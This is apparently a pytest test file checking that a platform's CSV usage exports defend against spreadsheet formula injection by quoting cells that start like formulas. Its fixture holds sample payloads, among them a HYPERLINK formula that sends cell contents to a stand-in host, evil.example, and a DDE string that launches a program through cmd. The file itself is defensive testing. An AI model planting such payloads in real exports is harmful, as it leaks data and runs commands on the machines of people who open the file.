"""Every CSV the platform writes is safe to open in a spreadsheet.

Text from requests (a user agent, a model name, an error message) that
starts like a formula is prefixed with a quote (OWASP, "CSV Injection");
numbers, negative ones included, are written as numbers.
"""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from django.core.management import call_command

from console.usage import usage_csv_lines
from responses_api.models import UsageLog
from responses_api.usage import writer as usage
from responses_api.usage.spreadsheet import csv_cell
from tests.usage.test_durability import a_row

pytestmark = pytest.mark.django_db

HOSTILE = {
    "user_agent": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "model": "+cmd|' /C calc'!A0",
    "error_message": "-2+3",
    "note": "@SUM(A1:A9)",
    "backend_name": "\tcell",
    "error_code": "\rcell",
}


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_text_cell_starting_like_a_formula_is_quoted(start):
    assert csv_cell(f"{start}1+1") == f"'{start}1+1"


@pytest.mark.parametrize("value", ["sim-model", "", "a=b", -1.5, -3, Decimal("-0.25"), None])
def test_other_cells_and_numbers_are_unchanged(value):
    assert csv_cell(value) == value


@pytest.fixture
def hostile_row(people):
    row = a_row(people["acme"].id, cost=Decimal("-1.5"), **HOSTILE)
    assert usage.write_rows([row]) == []
    return row


def _check(text: str) -> None:
    (record,) = csv.DictReader(io.StringIO(text))
    for column, value in HOSTILE.items():
        assert record[column] == "'" + value, column
    assert Decimal(record["cost"]) == Decimal("-1.5")
    assert record["status"] == "200"


def test_the_usage_export_command_quotes_formulas(hostile_row):
    out = io.StringIO()
    call_command("usage_export", "--org", "acme", "--format", "csv", stdout=out)
    _check(out.getvalue())


def test_the_consoles_csv_export_quotes_formulas(hostile_row):
    rows = UsageLog.objects.filter(request_id=hostile_row["request_id"])
    _check("".join(usage_csv_lines(rows)))
